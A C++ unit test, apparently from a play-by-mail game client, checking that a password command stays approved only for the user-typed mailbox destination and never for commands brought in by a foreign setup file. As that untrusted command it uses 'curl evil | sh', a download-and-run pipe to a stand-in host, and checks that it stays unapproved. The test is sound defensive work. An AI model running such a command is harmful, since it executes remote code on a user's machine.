#include "setup/CommandApproval.h"
#include "setup/FileCommands.h"
#include "setup/SetupFile.h"
#include "support/RecordingUserInterface.h"
#include "support/ScopedEnvironment.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

namespace turnpost {
namespace {

using test::RecordingUserInterface;
using test::ScopedEnvironment;
using test::TempDir;

// The mailbox's password command is the host's own once he typed it and saved: approved for that file
// and for the mailbox alone, never for the mail server, and never for a command the file brought.
TEST(CollectCommandApproval, SavingATypedMailboxCommandApprovesItForTheMailboxOnly)
{
    TempDir dir;
    ScopedEnvironment config("XDG_CONFIG_HOME", dir.File("config"));
    GameDocument document;
    document.Setup.CollectServer = "imap.example.org";
    document.Setup.CollectUser = "host";
    document.Setup.SmtpServer = "imap.example.org";
    document.Setup.SmtpSecurity = document.Setup.CollectSecurity;
    document.Setup.SmtpUser = "host";
    document.Setup.CollectPasswordCommand = "pass show imap";
    RecordingUserInterface ui(&document);
    const std::string saved = dir.File("game.tpf");
    ui.FileChoices.push_back(saved);
    FileSaveAs(document, ui);
    EXPECT_TRUE(IsCommandApproved(saved, "pass show imap", CollectDestination(document.Setup)));
    EXPECT_FALSE(IsCommandApproved(saved, "pass show imap", SmtpDestination(document.Setup)));
    EXPECT_EQ(document.CollectPasswordCommandFromFile, "pass show imap");
    EXPECT_TRUE(ui.Messages.empty());

    GameSetup foreign;
    foreign.CollectServer = "imap.example.org";
    foreign.CollectPasswordCommand = "curl evil | sh";
    const std::string posted = dir.File("posted.tpf");
    ASSERT_TRUE(WriteSetupFile(posted, foreign, ui));
    ASSERT_TRUE(ReadSetupFile(posted, document, ui));
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh", CollectDestination(document.Setup)));
    document.Setup.CollectPasswordCommand = "pass show other";
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_TRUE(IsCommandApproved(posted, "pass show other", CollectDestination(document.Setup)));
}

} // namespace
} // namespace turnpost
